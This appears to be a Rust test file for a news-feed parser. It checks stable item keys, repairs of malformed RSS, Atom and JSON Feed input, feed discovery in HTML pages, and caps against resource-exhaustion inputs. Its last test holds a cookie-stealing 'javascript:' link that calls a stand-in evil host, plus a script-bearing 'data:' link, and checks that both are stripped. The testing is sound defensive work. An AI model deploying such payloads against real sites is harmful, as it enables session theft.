//! End-to-end behaviour of `parse`: stable keys, repairs, HTML pages, errors, speed.

mod parse_support;

use std::path::Path;

use newswatch::feed::{ParseError, Parsed, Repair, parse};
use parse_support::{assert_repaired, parse_feed, rss_items};
use url::Url;

#[test]
fn item_without_guid_or_link_gets_the_same_key_on_every_parse() {
    let body = rss_items(
        "<item><title>Same</title><description>Body</description><pubDate>Tue, 22 Oct 2024 10:00:00 GMT</pubDate></item>",
    );
    let first = parse_feed(&body);
    let second = parse_feed(&body);
    assert_eq!(first.items[0].key, second.items[0].key);
    assert!(
        first.items[0].key.0.starts_with("h:"),
        "{:?}",
        first.items[0].key
    );
}

#[test]
fn different_guidless_linkless_items_get_different_keys() {
    let body = rss_items(
        "<item><title>One</title></item><item><title>Two</title></item><item><title>One</title><description>x</description></item>",
    );
    let feed = parse_feed(&body);
    let keys: Vec<_> = feed.items.iter().map(|i| i.key.clone()).collect();
    assert_eq!(keys.len(), 3);
    assert_ne!(keys[0], keys[1]);
    assert_ne!(keys[0], keys[2]);
    assert_ne!(keys[1], keys[2]);
}

#[test]
fn atom_entry_without_id_gets_a_stable_key_too() {
    let body =
        r#"<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>No id</title></entry></feed>"#;
    assert_eq!(parse_feed(body).items[0].key, parse_feed(body).items[0].key);
}

#[test]
fn link_is_the_key_when_there_is_no_guid() {
    let feed = parse_feed(&rss_items(
        "<item><title>x</title><link>https://a.example/1</link></item>",
    ));
    assert_eq!(feed.items[0].key.0, "https://a.example/1");
}

#[test]
fn repair_bare_ampersand() {
    let feed = assert_repaired(
        &rss_items(
            "<item><title>Tom & Jerry</title><link>https://x.example/?a=1&b=2</link></item>",
        ),
        Repair::BareAmpersand,
    );
    assert_eq!(feed.items[0].title, "Tom & Jerry");
    assert_eq!(
        feed.items[0].link.as_deref(),
        Some("https://x.example/?a=1&b=2")
    );
}

#[test]
fn repair_html_entities_alongside_another_fault() {
    let feed = assert_repaired(
        &rss_items("<item><title>Caf&eacute; &mdash; A & B</title></item>"),
        Repair::HtmlEntity,
    );
    assert_eq!(feed.items[0].title, "Café — A & B");
}

#[test]
fn repair_invalid_character_reference() {
    let feed = assert_repaired(
        &rss_items("<item><title>a&#0;b</title></item>"),
        Repair::InvalidCharRef,
    );
    assert_eq!(feed.items[0].title, "ab");
}

#[test]
fn repair_control_characters_alongside_another_fault() {
    let feed = assert_repaired(
        &rss_items("<item><title>a\u{1}b & c</title></item>"),
        Repair::ControlCharacters,
    );
    assert_eq!(feed.items[0].title, "ab & c");
}

#[test]
fn repair_missing_rss_version() {
    let feed = assert_repaired(
        "<rss><channel><title>t</title><item><title>x</title></item></channel></rss>",
        Repair::RssVersion,
    );
    assert_eq!(feed.items.len(), 1);
}

#[test]
fn repair_leading_garbage() {
    let body = format!(
        "Warning: include() {{oops}} in feed.php\n{}",
        rss_items("<item><title>x</title></item>")
    );
    let feed = assert_repaired(&body, Repair::LeadingGarbage);
    assert_eq!(feed.items.len(), 1);
}

#[test]
fn repair_broken_doctype() {
    let body = r#"<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//x" 'unterminated><rss version="2.0"><channel><title>found</title></channel></rss>"#;
    let feed = assert_repaired(body, Repair::Doctype);
    assert_eq!(feed.title.as_deref(), Some("found"));
}

#[test]
fn repair_truncated_document() {
    let body = rss_items("<item><title>kept</title></item><item><title>cut");
    let body = &body[..body.find("cut").map_or(body.len(), |i| i + 3)];
    let body = format!("{body}</tit");
    let feed = assert_repaired(&body, Repair::TruncatedTag);
    assert!(feed.repairs.contains(&Repair::UnclosedElements));
    assert_eq!(feed.items[0].title, "kept");
}

#[test]
fn repair_missing_channel() {
    let feed = assert_repaired(
        r#"<rss version="2.0"><item><title>x</title></item></rss>"#,
        Repair::RssChannel,
    );
    assert_eq!(feed.items.len(), 1);
}

#[test]
fn repair_atom_text_type() {
    let body = r#"<feed xmlns="http://www.w3.org/2005/Atom"><title type="text/plain">T</title><entry><id>1</id><title>x</title></entry></feed>"#;
    assert_eq!(
        assert_repaired(body, Repair::AtomTextType).title.as_deref(),
        Some("T")
    );
}

#[test]
fn well_formed_feed_needs_no_repairs() {
    assert!(
        parse_feed(&rss_items("<item><title>x</title></item>"))
            .repairs
            .is_empty()
    );
}

#[test]
fn repairs_have_human_descriptions() {
    let feed = parse_feed("<rss><channel><title>A & B</title></channel></rss>");
    let described: Vec<String> = feed.repairs.iter().map(ToString::to_string).collect();
    assert!(described.iter().all(|d| !d.is_empty()), "{described:?}");
}

#[test]
fn html_page_yields_its_feed_links() {
    let page = r#"<!DOCTYPE html><html><head><title>Site</title>
        <link rel="alternate" type="application/rss+xml" href="/rss.xml"></head><body>Hi</body></html>"#;
    let base = Url::parse("https://site.example/news/").ok();
    match parse(
        page.as_bytes(),
        Some("text/html; charset=utf-8"),
        base.as_ref(),
    ) {
        Ok(Parsed::Html { feed_links }) => assert_eq!(feed_links, ["https://site.example/rss.xml"]),
        other => panic!("expected an HTML page, got {other:?}"),
    }
}

#[test]
fn html_page_without_feed_link_is_a_clear_error() {
    let page = "<html><head><title>x</title></head><body><p>No feeds</p></body></html>";
    let error = parse(page.as_bytes(), Some("text/html"), None).err();
    assert_eq!(error, Some(ParseError::HtmlWithoutFeedLink));
    assert_eq!(
        ParseError::HtmlWithoutFeedLink.to_string(),
        "HTML page without a feed link"
    );
}

#[test]
fn error_messages_are_clear() {
    let message = |body: &str| {
        parse(body.as_bytes(), None, None)
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default()
    };
    assert_eq!(message(""), "not a feed: empty document");
    assert_eq!(message(" \n\t"), "not a feed: empty document");
    assert_eq!(
        message("<rss version=\"2.0\">\n<channel>\n<title>x</titl>\n</channel></rss>"),
        "not a feed: XML parse error at line 3: ill-formed document: expected `</title>`, but `</titl>` was found"
    );
    assert_eq!(
        message("<foo><bar/></foo>"),
        "not a feed: root element <foo> is not RSS, Atom or RDF"
    );
    assert!(message("just some text").starts_with("not a feed: "));
    assert!(
        message("{\"version\": \"https://jsonfeed.org/version/1.1\", \"items\": 5}")
            .starts_with("not a feed: invalid JSON Feed: ")
    );
}

/// Regression: one JSON Feed item with a field of the wrong type (an attachment's
/// `size_in_bytes` as a string, a number among `tags`) failed the whole feed, and every other
/// item was held back while it was listed; then such an item was dropped, and a watch never
/// saw its title. It is read with its text alone (the attachment dropped, the tags that are
/// strings kept, a number for a title read as its text); one that is no item at all (a
/// number in the list) is dropped, the rest read.
#[test]
fn a_json_feed_item_the_parser_refuses_is_read_by_its_text() {
    let body = r#"{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[
        {"id":"1","title":"first"},
        {"id":"2","title":"North Korean troops","attachments":[{"url":"https://x.example/a.mp3","mime_type":"audio/mpeg","size_in_bytes":"123"}]},
        {"id":"3","title":"tagged","tags":["Kursk",5]},
        {"id":"4","title":"last"}]}"#;
    let feed = assert_repaired(body, Repair::UnreadableFields);
    assert!(
        !feed.repairs.contains(&Repair::UnreadableItems),
        "{:?}",
        feed.repairs
    );
    let titles: Vec<&str> = feed.items.iter().map(|i| i.title.as_str()).collect();
    assert_eq!(titles, ["first", "North Korean troops", "tagged", "last"]);
    assert_eq!(feed.items[2].categories, ["Kursk"]);
    let body = r#"{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[
        {"id":"1","title":"first"},
        5,
        {"id":"2","title":5,"attachments":[{"url":"https://x.example/a.mp3","size_in_bytes":"1"}]},
        {"id":"3","title":"last"}]}"#;
    let feed = assert_repaired(body, Repair::UnreadableItems);
    let titles: Vec<&str> = feed.items.iter().map(|i| i.title.as_str()).collect();
    assert_eq!(titles, ["first", "5", "last"]);
}

/// Regression: a JSON Feed item with a lone surrogate escape (`JSON.stringify` of an emoji cut
/// in half) or with a key given twice failed the whole feed ("unexpected end of hex escape",
/// "duplicate field `title`"), and the items beside it were lost. Both are read: the lone
/// half as U+FFFD, the key by its last value.
#[test]
fn a_json_feed_with_a_lone_surrogate_or_a_key_given_twice_is_read_whole() {
    let body = r#"{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[
        {"id":"1","title":"troops one"},
        {"id":"2","title":"troops two \ud83d"},
        {"id":"3","title":"draft","title":"troops three"}]}"#;
    let feed = assert_repaired(body, Repair::JsonFeed);
    let titles: Vec<&str> = feed.items.iter().map(|i| i.title.as_str()).collect();
    assert_eq!(
        titles,
        ["troops one", "troops two \u{FFFD}", "troops three"]
    );
}

/// Regression: a bare `<` in an item's author (`Jane Doe <jane@example.com>`), category or
/// link failed the whole feed: the salvage of items counted end tags one by one, so the
/// item's own end tag closed its author and the item was never found to be tried alone.
/// End tags now close elements by name: the item is read without the broken field.
#[test]
fn an_item_with_a_bare_bracket_in_its_author_is_read_by_its_text() {
    let body = rss_items(
        "<item><title>troops one</title><guid>1</guid></item>\
         <item><title>troops two</title><guid>2</guid><author>Jane Doe <jane@example.com></author></item>\
         <item><title>troops three</title><guid>3</guid><category>A <b B</category><description>Kursk</description></item>\
         <item><title>troops four</title><guid>4</guid></item>",
    );
    let feed = assert_repaired(&body, Repair::UnreadableFields);
    let titles: Vec<&str> = feed.items.iter().map(|i| i.title.as_str()).collect();
    assert_eq!(
        titles,
        ["troops one", "troops two", "troops three", "troops four"]
    );
    // The siblings after a child never closed are kept (review: they were all dropped).
    assert_eq!(feed.items[2].summary, "Kursk");
}

/// Regression: one Atom entry the parser library refuses (`<content type="image/png"/>` with
/// neither body nor `src`: "missing content") failed the whole feed; then it was dropped, and
/// a watch never saw its title. It is read without its content; the others as they are.
#[test]
fn an_entry_the_parser_refuses_is_read_by_its_text() {
    let body = r#"<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
        <entry><id>1</id><title>first</title></entry>
        <entry><id>2</id><title>North Korean troops</title><summary>In Kursk</summary><content type="image/png"/></entry>
        <entry><id>3</id><title>last</title></entry></feed>"#;
    let feed = assert_repaired(body, Repair::UnreadableFields);
    let titles: Vec<&str> = feed.items.iter().map(|i| i.title.as_str()).collect();
    assert_eq!(titles, ["first", "North Korean troops", "last"]);
    assert_eq!(feed.items[1].summary, "In Kursk");
}

/// Regression: feed-rs unwraps the parsed number of an `<itunes:duration>`; a 23-digit value
/// panicked it, and the whole feed was lost ("the feed parser crashed"). The crash is caught,
/// the time dropped, and the feed read.
#[test]
fn a_media_time_that_crashes_the_parser_is_dropped_and_the_feed_read() {
    let body = r#"<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel><item><title>t</title><itunes:duration>99999999999999999999999</itunes:duration></item></channel></rss>"#;
    let feed = assert_repaired(body, Repair::MediaTime);
    assert_eq!(feed.items[0].title, "t");
}

#[test]
fn http_charset_reaches_the_items() {
    let body = encoding_rs::WINDOWS_1251
        .encode(&rss_items("<item><title>Новости</title></item>"))
        .0
        .into_owned();
    match parse(
        &body,
        Some("application/rss+xml; charset=windows-1251"),
        None,
    ) {
        Ok(Parsed::Feed(feed)) => {
            assert_eq!(feed.encoding, "windows-1251");
            assert_eq!(feed.items[0].title, "Новости");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn seed_article_survives_the_round_trip() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/seed-article.txt");
    let article =
        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let (headline, body) = article.split_once('\n').unwrap_or((&article, ""));
    let escaped = body.replace('&', "&amp;").replace('<', "&lt;");
    let feed = parse_feed(&rss_items(&format!(
        "<item><title>{headline}</title><description>&lt;p&gt;{escaped}&lt;/p&gt;</description></item>"
    )));
    let item = &feed.items[0];
    assert_eq!(item.title, headline.trim());
    assert!(
        item.summary.contains("North Korean troops"),
        "{}",
        item.summary
    );
    assert!(item.summary.contains("‘Victory Plan’"));
}

/// Regression: the parser copies a JSON Feed's authors into every item that has none, so a
/// long author name and many items multiplied (a 100 KB name over 10,000 empty items, a
/// 130 KB document, is a gigabyte), and it compares each author's name with every one before
/// it (a list of 15,000 authors is 10^8 comparisons). Lists are cut after 256 entries and such
/// feed authors dropped; the items are read.
#[test]
fn json_feed_authors_too_costly_to_copy_are_dropped_and_long_lists_cut() {
    let items: Vec<String> = (0..10_000)
        .map(|i| format!(r#"{{"id":"{i}","title":"North Korean troops {i}"}}"#))
        .collect();
    let json = format!(
        r#"{{"version":"https://jsonfeed.org/version/1.1","title":"t","author":{{"name":"{}"}},"items":[{}]}}"#,
        "a".repeat(100_000),
        items.join(",")
    );
    let feed = assert_repaired(&json, Repair::CostlyJson);
    assert_eq!(feed.items.len(), 10_000);
    assert!(feed.items.iter().all(|i| i.authors.is_empty()));
    let authors: Vec<String> = (0..15_000)
        .map(|i| format!(r#"{{"name":"Reporter {i}"}}"#))
        .collect();
    let json = format!(
        r#"{{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[{{"id":"1","title":"x","authors":[{}]}}]}}"#,
        authors.join(",")
    );
    let feed = assert_repaired(&json, Repair::CostlyJson);
    assert_eq!(feed.items[0].authors.len(), 256);
}

/// Regression: the XML reader compares each attribute of a tag with the ones before it, and a
/// tag of many distinct names followed by many repeats of one made that quadratic (18,000 and
/// 25,000 of them, a 287 KB document, took 0.28 s; 16 MiB would take a quarter of an hour, at
/// every poll). A tag keeps its first 256 attributes.
#[test]
fn a_tag_of_thousands_of_attributes_keeps_its_first_256() {
    let attrs: String = (0..18_000).map(|i| format!(" a{i}=\"\"")).collect();
    let rss = format!(
        "<rss version=\"2.0\"><channel><title>t</title><x{attrs}{}/>\
         <item><title>North Korean troops</title><guid>g</guid></item></channel></rss>",
        " z=\"\"".repeat(25_000)
    );
    let feed = assert_repaired(&rss, Repair::ExcessAttributes);
    assert_eq!(feed.items[0].title, "North Korean troops");
}

/// Regression (review): the parser reads a JSON Feed from an array as well as from an object,
/// and takes a text for JSON when a `{` comes before any `<`; the JSON bounds (the item cap,
/// the author copies) looked only at a text opening with `{`, so an array-rooted feed went
/// past all of them. It is refused unread; a feed behind a line of garbage with a brace in it
/// is still repaired and read.
#[test]
fn a_json_feed_that_is_an_array_is_refused_unread() {
    let items = vec!["{}"; 50_000].join(",");
    let json = format!(
        r#"["https://jsonfeed.org/version/1.1","t",null,null,null,null,null,null,{{"name":"{}"}},null,[{items}]]"#,
        "a".repeat(10_000)
    );
    assert!(parse(json.as_bytes(), None, None).is_err());
    let rss = "Warning: {cache} not writable\n<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>t</title>\
               <item><title>North Korean troops</title><guid>g</guid></item></channel></rss>";
    let feed = assert_repaired(rss, Repair::LeadingGarbage);
    assert_eq!(feed.items[0].title, "North Korean troops");
}

/// Regression: the parser keeps a structure of a few hundred bytes for each link, category,
/// enclosure, author, media content or thumbnail an item holds, however many, each from an
/// element of a few dozen: 16 MiB of `<link>a</link>` in one item took 488 MB, of
/// `<media:thumbnail>`s 424 MB, 70 `<media:content>`s in each of 7,000 items 265 MB. Past what
/// the parser may keep for them, each element keeps the first of each name the budget pays
/// for (now 89, 49 and 115 MB), and an item its first link whatever the budget.
#[test]
fn an_item_of_many_links_keeps_what_the_parser_can_afford() {
    let rss = rss_items(&format!(
        "<item><title>North Korean troops</title><link>https://wire.example/a</link>{}\
         <category>World</category></item>",
        "<link>https://wire.example/b</link>".repeat(200_000)
    ));
    let feed = assert_repaired(&rss, Repair::CostlyRepeats);
    assert_eq!(feed.items[0].title, "North Korean troops");
    assert_eq!(
        feed.items[0].link.as_deref(),
        Some("https://wire.example/a")
    );
    assert_eq!(feed.items[0].categories, vec!["World"]);
}

/// Regression: an item's link that was no web address (`javascript:`, `data:`) reached the
/// alerts, templates and webhook JSON unchanged (the README says `link` is "the item's
/// http(s) URL, or none"), where a receiver rendering it as an `href` ran it. Now such an
/// item has no link; its key is what it was, so no item becomes new again.
#[test]
fn a_link_that_is_no_web_address_is_no_link() {
    let body = rss_items(concat!(
        "<item><title>Script</title><link>javascript:fetch('//evil.example/?c='+document.cookie)</link></item>",
        "<item><title>Data</title><guid isPermaLink=\"false\">d1</guid><link>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</link></item>",
        "<item><title>Mail</title><guid isPermaLink=\"false\">m1</guid><link>mailto:desk@site.example</link></item>",
        "<item><title>Web</title><link>https://site.example/a</link></item>",
    ));
    let feed = parse_feed(&body);
    let links: Vec<Option<&str>> = feed.items.iter().map(|i| i.link.as_deref()).collect();
    assert_eq!(links, [None, None, None, Some("https://site.example/a")]);
    let keys: Vec<&str> = feed.items.iter().map(|i| i.key.0.as_str()).collect();
    assert_eq!(
        keys,
        [
            "javascript:fetch('//evil.example/?c='+document.cookie)",
            "d1",
            "m1",
            "https://site.example/a"
        ]
    );
}
